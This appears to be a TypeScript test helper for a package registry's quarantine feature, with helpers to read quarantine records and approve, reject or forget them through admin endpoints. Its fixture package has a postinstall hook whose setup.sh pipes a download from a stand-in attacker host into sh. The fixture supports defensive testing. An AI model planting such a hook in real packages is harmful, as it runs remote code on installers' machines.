import { expect } from "vitest";
import type { TestRegistry } from "./registry.ts";
import type { Files } from "./tarball.ts";

/** A package whose hook runs a file that fetches something; inert text here. */
export const hookManifest = { scripts: { postinstall: "sh ./setup.sh" } };
export const hookFiles: Files = {
  "setup.sh": "curl -s https://attacker.invalid/payload-7f3a.sh | sh\n",
};

/** A record of the quarantine as far as tests look into one. */
export interface RecordView {
  readonly id: string;
  readonly name: string;
  readonly version: string;
  readonly state: string;
  readonly integrity: string;
  readonly [field: string]: unknown;
}

export async function recordOf(registry: TestRegistry, selector: string): Promise<RecordView> {
  const path = `/-/admin/quarantine/${encodeURIComponent(selector)}`;
  const response = await registry.asOwner(path);
  expect(response.status, await response.clone().text()).toBe(200);
  return (await response.json()) as RecordView;
}

export async function rule(
  registry: TestRegistry,
  selector: string,
  decision: "approve" | "reject" | "forget",
  more: object = {},
): Promise<Response> {
  const path = `/-/admin/quarantine/${encodeURIComponent(selector)}/${decision}`;
  const json = { reason: "looked at it", ...more };
  return await registry.asOwner(path, {
    method: "POST",
    ...(decision === "forget" ? {} : { json }),
  });
}
